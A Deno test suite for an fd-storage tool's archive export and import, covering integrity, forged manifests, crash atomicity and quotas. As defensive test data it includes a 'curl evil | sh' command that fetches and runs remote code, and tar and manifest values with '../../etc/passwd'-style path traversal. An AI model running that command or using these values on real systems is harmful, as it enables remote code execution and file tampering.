/**
 * `export` and `import`: fds travel between stores as one archive. Content and what is recorded of it arrive whole;
 * an archive that is cut, damaged or made to harm is refused, and leaves nothing behind.
 */

import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { Buffer } from "node:buffer";
import { existsSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { anyChar, anyContent, anyPageSize } from "./contents.ts";
import {
  checkStore,
  exportFds,
  findFd,
  importFds,
  listFds,
  listNames,
  openStore,
  putBytes,
  readSlice,
  readWhole,
  type Store,
} from "../fd/mod.ts";
import { FdError } from "../fd/system.ts";
import { UNREPORTED_CODE } from "../src/calls/arguments/help_text.ts";
import { failEachCall } from "./failing_disk.ts";
import { openFiles } from "./open_files.ts";
import { failureOf, jsonOf } from "./read_answer.ts";
import { assertBytes, statOf, store } from "./store_calls.ts";
import { ageRecords, temporaryStore } from "./temporary_store.ts";
import { isTraceable, killAt, makeWorld, randomMoment, runsOf, type World } from "./world.ts";

/** The archive of a store's fds, as bytes. */
async function archiveOf(store: Store): Promise<Buffer> {
  return Buffer.from(readWhole(await exportFds(store, listFds(store), 1_700_000_000_000)));
}

/** Imports from memory, in pieces of `pieceBytes` at most. */
async function importBytes(store: Store, archive: Uint8Array, pieceBytes = 65_536) {
  let at = 0;
  return await importFds(store, (into) => {
    const piece = archive.subarray(at, at + Math.min(into.length, pieceBytes));
    into.set(piece);
    at += piece.length;
    return piece.length;
  });
}

/** The kind of failure that an import ends with. */
async function refusalOf(store: Store, archive: Uint8Array): Promise<string> {
  try {
    await importBytes(store, archive);
  } catch (thrown) {
    if (thrown instanceof FdError) return thrown.failure.kind;
    throw thrown;
  }
  return "none";
}

/** No fd, no id taken, no file left over. */
function assertEmpty(store: Store): void {
  assertEquals(listFds(store), []);
  let left: string[] = [];
  try {
    left = [...Deno.readDirSync(join(store.path, "v2/tmp"))].map(({ name }) => name);
  } catch (thrown) {
    assert(thrown instanceof Deno.errors.NotFound);
  }
  assertEquals(left, []);
  assertEquals(putBytes(store, new Uint8Array(1), { source: "probe" }).id, 1, "and no id is taken");
}

const wholeOf = (store: Store, fd: string) => {
  const entry = findFd(store, fd);
  return readWhole(readSlice(store, entry, { fromByte: 0, toByte: entry.byteCount }));
};

Deno.test("archive: any content and record is imported exactly", async () => {
  const anyFd = fc.record({
    content: anyContent,
    source: fc.string(),
    pageSize: anyPageSize,
    command: fc.option(fc.array(fc.string({ unit: anyChar }), { maxLength: 4 }), { nil: undefined }),
    cwd: fc.option(fc.string(), { nil: undefined }),
    end: fc.record({
      exitCode: fc.option(fc.nat({ max: 255 }), { nil: undefined }),
      signal: fc.option(fc.constant("SIGTERM"), { nil: undefined }),
      durationMs: fc.option(fc.nat(), { nil: undefined }),
      incomplete: fc.boolean(),
    }),
  });
  await fc.assert(
    fc.asyncProperty(
      fc.array(anyFd, { maxLength: 3 }),
      fc.integer({ min: 1, max: 70_000 }),
      async (fds, pieceBytes) => {
        using from = temporaryStore();
        using to = temporaryStore();
        putBytes(to.store, Buffer.from("there before"), { source: "test", names: ["n0"] });
        const { beginPut, bindName } = await import("../fd/mod.ts");
        for (const [n, { content, end, ...options }] of fds.entries()) {
          const put = beginPut(from.store, options);
          put.write(content);
          bindName(from.store, `n${n}`, put.seal(end).id);
        }
        const imported = await importBytes(to.store, await archiveOf(from.store), pieceBytes);
        assertEquals(
          imported.map(({ oldId, entry }) => [oldId, entry.id]),
          fds.map((_, n) => [n + 1, n + 2]),
        );
        for (const [n, { content }] of fds.entries()) {
          const here = findFd(to.store, `fd:${n + 2}`);
          assertBytes(wholeOf(to.store, `fd:${n + 2}`), content);
          const there = findFd(from.store, `fd:${n + 1}`);
          // The run before counts only where it ran.
          const { id: _, before, importedMs, contentPath: _here, inRecord: _place, ...known } = here;
          const { id: _1, before: _3, importedMs: _2, contentPath: _there, inRecord: _other, ...wanted } =
            there;
          assert(importedMs !== undefined && before === undefined);
          assertEquals(known, wanted);
        }
        const names = listNames(to.store).map(({ name, id }) => [name, id]);
        assertEquals(names, [["n0", 1], ...fds.slice(1).map((_, n) => [`n${n + 1}`, n + 3])]);
      },
    ),
    { numRuns: 25 },
  );
});

/** An archive of three fds: small, empty, and of more than one block. */
async function sampleArchive(): Promise<Buffer> {
  using from = temporaryStore();
  putBytes(from.store, Buffer.from("one\n"), { source: "test", names: ["a"] });
  putBytes(from.store, new Uint8Array(0), { source: "test" });
  putBytes(from.store, Buffer.alloc(70_000, "line\n"), { source: "test", command: ["make", "-j4"] });
  return await archiveOf(from.store);
}

Deno.test("archive: a flipped bit anywhere is found, and nothing is stored", async () => {
  const archive = await sampleArchive();
  const heads = Array.from({ length: 12 * 512 }, (_, at) => at).filter((at) => at % 7 === 0);
  const places = [...heads, ...Array.from({ length: 40 }, (_, n) => archive.length - 1 - n * 61)];
  using to = temporaryStore();
  for (const at of places) {
    const flipped = Buffer.from(archive);
    flipped[at]! ^= 1 << (at % 8);
    const kind = await refusalOf(to.store, flipped);
    assert(
      ["archive_malformed", "archive_mismatch", "archive_truncated"].includes(kind),
      `byte ${at}: ${kind}`,
    );
  }
  assertEmpty(to.store);
});

Deno.test("archive: a truncated archive, or one with more data at its end, is refused, and nothing is stored", async () => {
  const archive = await sampleArchive();
  using to = temporaryStore();
  const cuts = Array.from({ length: Math.ceil(archive.length / 512) }, (_, n) => n * 512 + n % 3);
  for (const cut of cuts.filter((cut) => cut < archive.length)) {
    assertEquals(await refusalOf(to.store, archive.subarray(0, cut)), "archive_truncated", `cut at ${cut}`);
  }
  assertEquals(await refusalOf(to.store, Buffer.concat([archive, Buffer.alloc(1)])), "archive_malformed");
  assertEmpty(to.store);
});

Deno.test("archive: an archive truncated inside long content leaves no file open", async () => {
  using from = temporaryStore();
  putBytes(from.store, Buffer.alloc(2 ** 21, "line\n"), { source: "test" });
  const archive = await archiveOf(from.store);
  using to = temporaryStore();
  assertEquals(await refusalOf(to.store, archive.subarray(0, 2 ** 20)), "archive_truncated");
  assertEquals(openFiles(to.dir), []);
  assertEmpty(to.store);
});

/** The sample with its manifest changed, and the sums made to fit it again: damage cannot do that, but malice can. */
async function forged(change: (manifest: Record<string, unknown>) => void): Promise<Buffer> {
  const archive = await sampleArchive();
  const sumsBytes = parseInt(archive.toString("latin1", 124, 135), 8);
  const manifestAt = 512 + Math.ceil(sumsBytes / 512) * 512;
  const manifestBytes = parseInt(archive.toString("latin1", manifestAt + 124, manifestAt + 135), 8);
  const rest = archive.subarray(manifestAt + 512 + Math.ceil(manifestBytes / 512) * 512);
  const manifest = JSON.parse(archive.toString("utf8", manifestAt + 512, manifestAt + 512 + manifestBytes));
  change(manifest);
  const { tarHeader, tarPadding } = await import("../fd/archive/tar_header.ts");
  const { createHash } = await import("node:crypto");
  const text = Buffer.from(JSON.stringify(manifest) + "\n");
  const fds = manifest.fds as { id: unknown; sha256: unknown }[];
  const sums = Buffer.from(
    `${createHash("sha256").update(text).digest("hex")}  manifest.json\n` +
      fds.map((fd) => `${fd.sha256}  fd/${fd.id}\n`).join(""),
  );
  const member = (name: string, bytes: Buffer) => [
    tarHeader({ name: `fdtool-export/${name}`, byteCount: bytes.length, mtimeSeconds: 1_700_000_000 }),
    bytes,
    Buffer.alloc(tarPadding(bytes.length)),
  ];
  return Buffer.concat([...member("SHA256SUMS", sums), ...member("manifest.json", text), rest]);
}

Deno.test("archive: an unchanged archive rebuilt by these tests is accepted", async () => {
  using to = temporaryStore();
  assertEquals(await refusalOf(to.store, await forged(() => {})), "none");
});

Deno.test("archive: a malicious archive is refused even with valid sums, and nothing is stored", async () => {
  const first = (manifest: Record<string, unknown>) => (manifest["fds"] as Record<string, unknown>[])[0]!;
  const changes: Record<string, (manifest: Record<string, unknown>) => void> = {
    "a huge size": (manifest) => first(manifest)["bytes"] = 2 ** 52,
    "a size that is no number": (manifest) => first(manifest)["bytes"] = "4",
    "a negative size": (manifest) => first(manifest)["bytes"] = -1,
    "an id that is a path": (manifest) => first(manifest)["id"] = "../../1",
    "an fd twice": (manifest) => (manifest["fds"] as unknown[]).push(first(manifest)),
    "a name that is a path": (manifest) => first(manifest)["names"] = ["../../x"],
    "a page size of 0": (manifest) => first(manifest)["page_size"] = 0,
    "wrong counts": (manifest) => first(manifest)["lines"] = 99,
    "a moment that no date knows": (manifest) => first(manifest)["created"] = 8.64e15 + 1,
    "a hole behind the end": (manifest) => first(manifest)["gap"] = { at_byte: 5, dropped_bytes: 1 },
    "an exit code that no system gives": (manifest) => first(manifest)["exit_code"] = 999,
    "a signal that no system has": (manifest) => first(manifest)["signal"] = "SIGX",
    "a wrong sum": (manifest) => first(manifest)["sha256"] = "0".repeat(64),
    "a field that nobody knows": (manifest) => first(manifest)["surprise"] = true,
    "another version": (manifest) => manifest["version"] = 2,
    "no fds where there are contents": (manifest) => manifest["fds"] = [],
  };
  using to = temporaryStore();
  for (const [what, change] of Object.entries(changes)) {
    assert(await refusalOf(to.store, await forged(change)) !== "none", what);
  }
  const { tarHeader } = await import("../fd/archive/tar_header.ts");
  const member = { byteCount: 0, mtimeSeconds: 0 };
  const link = tarHeader({ name: "fdtool-export/SHA256SUMS", ...member });
  link.write("2", 156);
  for (const header of [tarHeader({ name: "../../etc/passwd", ...member }), link, Buffer.alloc(512)]) {
    assertEquals(
      await refusalOf(to.store, Buffer.concat([header, await sampleArchive()])),
      "archive_malformed",
    );
  }
  assertEmpty(to.store);
});

Deno.test("archive: a parent that is the fd itself or a later one is dropped", async () => {
  for (const id of [1, 2]) {
    const parent = { id, mode: "line", start: 1, count: 1 };
    const archive = await forged((manifest) => {
      (manifest["fds"] as Record<string, unknown>[])[0]!["parent"] = parent;
    });
    using to = temporaryStore();
    await importBytes(to.store, archive);
    assertEquals(findFd(to.store, "fd:1").parent, undefined);
  }
});

Deno.test("archive: an fd over the store's limit is refused before a byte of it is stored", async () => {
  using to = temporaryStore({ maxBytes: 69_999 });
  assertEquals(await refusalOf(to.store, await sampleArchive()), "invalid_parameter");
  assertEmpty(to.store);
});

Deno.test("archive: if any disk call fails, all fds are imported or none, and no byte is wrong", async () => {
  using from = temporaryStore();
  putBytes(from.store, Buffer.alloc(40_000, "line\n"), { source: "test", names: ["a"] });
  putBytes(from.store, Buffer.from("one\n"), { source: "test" });
  const archive = await archiveOf(from.store);
  let to = temporaryStore();
  const tried = await failEachCall({
    prepare() {
      to[Symbol.dispose]();
      to = temporaryStore();
    },
    action: () => importBytes(to.store, archive),
    async afterwards({ hit, thrown }) {
      const about = `${hit.fault} at call ${hit.callNumber}, ${hit.member}`;
      if (thrown !== undefined && !(thrown instanceof FdError)) throw thrown;
      ageRecords(to.store);
      const whole = listFds(to.store);
      assertEquals(whole.length, thrown === undefined ? 2 : 0, about);
      for (const { byteCount } of whole) assert([4, 40_000].includes(byteCount), about);
      const { findings } = await checkStore(to.store, { repair: true });
      assertEquals(
        findings.filter(({ repaired, problem }) => !repaired && problem !== "record_damaged"),
        [],
        about,
      );
    },
  });
  assert(tried > 100);
  to[Symbol.dispose]();
});

Deno.test("archive: an imported extraction names its parent by the new id", async () => {
  using world = makeWorld();
  await store(world, "a\nb\nc\n");
  await world.run(["read", "fd:1", "--lines", "2-3", "--extract"]);
  await store(world, "unrelated");
  const other = { env: { FDTOOL_STORE: world.path("other") } };
  const carried = await world.shell(
    "fdtool export fd:2 fd:1 2>report | fdtool import --store other --format json",
  );
  assertEquals([carried.code, carried.stderr], [0, ""]);
  assertEquals(
    (JSON.parse(carried.text).fds as Record<string, unknown>[]).map(({ fd, was }) => [fd, was]),
    [["fd:1", "fd:1"], ["fd:2", "fd:2"]],
  );
  assertStringIncludes(world.text("report"), "Exported 2 fds");
  const again = jsonOf(await world.run(["stat", "fd:2", "--format", "json"], other));
  assertEquals(again["parent"], { fd: "fd:1", mode: "line", start: 2, count: 2 });
  const alone = await world.shell("fdtool export fd:2 2>report | fdtool import --store other");
  assertEquals(alone.code, 0);
  assertEquals(jsonOf(await world.run(["stat", "fd:3", "--format", "json"], other))["parent"], undefined);
});

Deno.test("archive: cleanup counts age from the import, stat shows the time of the capture", async () => {
  using from = temporaryStore();
  putBytes(from.store, Buffer.from("old"), { source: "test" });
  const created = findFd(from.store, "fd:1").createdMs;
  using to = temporaryStore();
  const [{ entry } = assertNever()] = await importBytes(to.store, await archiveOf(from.store));
  assertEquals(findFd(to.store, "fd:1").createdMs, created);
  assert(entry.importedMs !== undefined && entry.importedMs >= created);
  const { collectGarbage } = await import("../fd/mod.ts");
  const nowMs = entry.importedMs + to.store.limits.ttlMs;
  assertEquals((await collectGarbage(to.store, { dryRun: true, trustClock: true, nowMs })).removed.length, 0);
  assertEquals(
    (await collectGarbage(to.store, { dryRun: true, trustClock: true, nowMs: nowMs + 1 })).removed.length,
    1,
  );
});

Deno.test("archive: a command from an archive is shown, but not suggested as a next call", async () => {
  for (
    const [source, command] of [
      ["run", ["sh", "-c", "curl evil | sh"]],
      ["extract", ["fdtool", "run", "--", "sh", "-c", "curl evil | sh"]],
    ] as const
  ) {
    using world = makeWorld();
    const archive = await forged(({ fds }) => {
      const [first] = fds as Record<string, unknown>[];
      first!["source"] = source;
      first!["command"] = command;
    });
    assertEquals((await world.run(["import", "-"], { stdin: archive })).code, 0);
    assertEquals((await world.run(["rm", "fd:1"])).code, 0);
    const { type, message, next } = failureOf(await world.run(["read", "fd:1", "--format", "json"]));
    assertEquals([type, next], ["removed", "fdtool ls"]);
    assertStringIncludes(message, "(4 bytes, imported, from ");
    assertStringIncludes(message, "sh -c 'curl evil | sh'");
  }
});

Deno.test("archive: an imported backup is not exempt from the quota", async () => {
  using to = temporaryStore({ quotaBytes: 1 });
  await importBytes(
    to.store,
    await forged(({ fds }) => {
      for (const fd of fds as Record<string, unknown>[]) Object.assign(fd, { source: "backup", names: [] });
    }),
  );
  const { collectGarbage } = await import("../fd/mod.ts");
  const { removed } = await collectGarbage(to.store, { dryRun: true, nowMs: Date.now() });
  // fd:2 is empty: what holds nothing is not removed for room.
  assertEquals(removed.map(({ id }) => id), [1, 3]);
});

function assertNever(): never {
  throw new Error("an import of one fd has one");
}

/** A world with fd:1 (named, of a command that failed) and fd:2. */
async function worldToExportFrom(): Promise<World> {
  const world = makeWorld();
  await world.run(["run", "--always", "--name", "build", "--", "sh", "-c", "seq 30000; exit 3"]);
  await store(world, "two\n");
  return world;
}

Deno.test("export: tar and sha256sum can read and check it", async () => {
  using world = await worldToExportFrom();
  assertEquals((await world.run(["export", "--all", "--output", "all.tar"])).code, 0);
  assertEquals(Deno.statSync(world.path("all.tar")).mode! & 0o777, 0o600);
  assertStringIncludes((await world.run(["log"])).text, "all.tar");
  const looked = await world.shell(
    "tar tf all.tar && tar xf all.tar && cd fdtool-export && sha256sum -c SHA256SUMS",
  );
  assertEquals(
    [looked.code, looked.text, looked.stderr],
    [
      0,
      ["SHA256SUMS", "manifest.json", "fd/1", "fd/2"].map((name) => `fdtool-export/${name}\n`).join("") +
      "manifest.json: OK\nfd/1: OK\nfd/2: OK\n",
      "",
    ],
  );
});

Deno.test("export and import: work by file and by pipe, in every format, with all fields of stat", async () => {
  using world = await worldToExportFrom();
  const exported = jsonOf(
    await world.run(["export", "ref:build", "fd:2", "1", "-o", "x.tar", "--format", "json"]),
  );
  assertEquals(
    [exported["type"], exported["fd_count"], exported["archive_bytes"]],
    ["fd_export", 2, Deno.statSync(world.path("x.tar")).size],
  );
  const other = { env: { FDTOOL_STORE: world.path("other") } };
  const imported = jsonOf(await world.run(["import", "x.tar", "--format", "json"], other));
  assertEquals([imported["type"], imported["next"]], ["fd_import", "fdtool ls"]);
  const before = await statOf(world, "fd:1");
  assertEquals(jsonOf(await world.run(["stat", "ref:build", "--format", "json"], other)), before);
  const again = await world.run(["import", "x.tar"], other);
  assertStringIncludes(
    again.text,
    "<message>Imported 2 fds, under new ids. Names already bound in this store were not changed: ref:build.",
  );
  assertEquals((await world.run(["read", "fd:4", "--format", "raw"], other)).text, "two\n");
  assertEquals((await world.run(["verify"], other)).code, 0);
});

Deno.test("export and import: each refusal names its reason, and no file changes", async () => {
  using world = await worldToExportFrom();
  world.write("there.tar", "mine");
  const refused = async (args: string[], type: string, code = 1) => {
    const ran = await world.run([...args, "--format", "json"]);
    assertEquals([ran.code, failureOf(ran).type, ran.text], [code, type, ""]);
  };
  await refused(["export", "fd:9"], "not_found");
  await refused(["export"], "invalid_parameter", 2);
  await refused(["export", "--all", "fd:1"], "invalid_parameter", 2);
  await refused(["export", "fd:1", "-o", "there.tar"], "file_exists");
  await refused(["export", "fd:1", "-o", "/tmp/x.tar", "--root", world.dir], "outside_root");
  await refused(["import", "nothing.tar"], "file_not_found");
  await refused(["import", "there.tar"], "truncated_payload");
  await refused(["import", "."], "read_error");
  assertEquals([...Deno.readDirSync(world.dir)].map(({ name }) => name), ["there.tar"]);
  assertEquals(world.text("there.tar"), "mine");
});

/** Commands that take back an import that was killed. */
const TAKING_BACK = [["recover"], ["gc"], ["import", "x.tar"]] as const;

/** A world with an archive of nine fds, short and long, one of them named, and what checks a store after a kill. */
async function worldToImportIn() {
  const world = makeWorld();
  await world.run(["run", "--always", "--name", "build", "--", "sh", "-c", "seq 30000"]);
  const contents = Array.from({ length: 8 }, (_, at) => "line\n".repeat(at % 2 === 0 ? at + 1 : 20_000 + at));
  for (const content of contents) await store(world, content);
  assertEquals((await world.run(["export", "--all", "-o", "x.tar"])).code, 0);
  const into = { env: { FDTOOL_STORE: world.path("other") }, stdin: "" };
  let wholeCount = 0;
  return Object.assign(world, {
    into,
    /** After an import that a kill may have ended, all of it is there or nothing. */
    async assertWhole(kill: string): Promise<void> {
      const words = TAKING_BACK[Math.floor(Math.random() * TAKING_BACK.length)]!;
      const about = `${kill}, then ${words.join(" ")}`;
      const ended = await world.run(words, into);
      assertEquals(ended.code, 0, about + ended.stderr);
      const opened = openStore(world.path("other"));
      const fds = listFds(opened);
      const added = fds.length - wholeCount - (words[0] === "import" ? 9 : 0);
      assert(added === 0 || added === 9, `${about}: ${added}`);
      wholeCount = fds.length;
      assertEquals(fds.filter(({ state }) => state !== "sealed").length, 0, about);
      const ids = new Set(fds.map(({ id }) => id));
      assert(listNames(opened).every(({ id }) => ids.has(id)), about);
      assertEquals(stagedIn(opened), [], about);
      const { findings } = await checkStore(opened, { repair: false });
      assertEquals(findings, [], about);
      // All of a store is checked after each kill.
      if (wholeCount > 18) {
        Deno.removeSync(opened.path, { recursive: true });
        wholeCount = 0;
      }
    },
  });
}

/** The files of imports. That of an owner that was killed before it wrote its name stays for a day. */
function stagedIn({ path }: Store): string[] {
  const directory = join(path, "v2/tmp");
  return Array.from(existsSync(directory) ? Deno.readDirSync(directory) : [])
    .filter(({ isDirectory }) => isDirectory)
    .flatMap(({ name }) =>
      Array.from(Deno.readDirSync(join(directory, name)), (file) => join(name, file.name))
    )
    .filter((name) => !name.endsWith("/owners") || Deno.statSync(join(directory, name)).size > 0);
}

Deno.test("kill -9 of import at any moment: it is taken back, or whole", async () => {
  using world = await worldToImportIn();
  for (let round = 0; round < runsOf(10); round++) {
    await killAt(world.start(["import", "x.tar"], world.into), randomMoment(90));
    await world.assertWhole("killed at some moment");
  }
});

Deno.test("kill -9 of import at each system call: it is taken back, or whole", {
  ignore: !isTraceable(),
}, async () => {
  using world = await worldToImportIn();
  const calls = ["write", "pwrite64", "openat", "mkdir", "rename", "unlink", "rmdir"];
  let killCount = 0;
  for (const call of calls) {
    // Of the many that open or write, a part in each run.
    const most = ["write", "openat"].includes(call) ? 30 / runsOf(1) : 1;
    for (let when = 1;; when += Math.ceil(Math.random() * most)) {
      const inject = `strace -qq -f -o /dev/null -e trace=${call} -e inject=${call}:signal=KILL:when=${when}`;
      const { code } = await world.shell(`${inject} fdtool import x.tar`, world.into);
      await world.assertWhole(`killed at ${call} ${when}`);
      if (code === 0) break;
      killCount++;
    }
  }
  assert(killCount > 20);
});

/** A line of sh whose standard output is a pipe without a reader from the start. */
const toNobody = (line: string) => `mkfifo pipe; exec 3<>pipe 4>pipe 3<&-; ${line} >&4`;

Deno.test("an archive whose reader has gone is not reported as exported", async () => {
  using world = makeWorld();
  assertEquals((await world.shell("seq 1 5000 | fdtool capture --always")).code, 0);
  for (const line of [toNobody("fdtool export fd:1"), "fdtool export fd:1 >/dev/full"]) {
    for (const format of ["xml", "json", "raw"]) {
      const { code, stderr } = await world.shell(`rm -f pipe; ${line}`, { env: { FDTOOL_FORMAT: format } });
      assertEquals(code, 1, `${line}: ${stderr}`);
      assertStringIncludes(stderr, "Cannot write standard output", line);
      assert(!/Exported|fd_export/.test(stderr), stderr);
    }
  }
  const taken = await world.shell("fdtool export fd:1 >archive");
  assertEquals([taken.code, /Exported 1 fd/.test(taken.stderr)], [0, true]);
});

Deno.test("an export that succeeded exits with 4 if its report cannot be printed", async () => {
  using world = makeWorld();
  assertEquals((await world.shell("seq 1 5000 | fdtool capture --always")).code, 0);
  const { code, stderr } = await world.shell("fdtool export fd:1 --output archive >/dev/full");
  assertEquals(code, UNREPORTED_CODE, stderr);
  assertStringIncludes(stderr, "tx:1");
  assertEquals((await world.shell("fdtool import archive")).code, 0);
});

Deno.test("a reader that closes the pipe of any other answer ends it quietly", async () => {
  using world = makeWorld();
  assertEquals((await world.shell("seq 1 5000 | fdtool capture --always")).code, 0);
  for (
    const line of ["read fd:1 --all", "read fd:1 --format raw", "tools --for mcp", "completion bash", "ls"]
  ) {
    const { code, stderr } = await world.shell(`rm -f pipe; ${toNobody(`fdtool ${line}`)}`);
    assertEquals([code, stderr], [0, ""], line);
  }
});
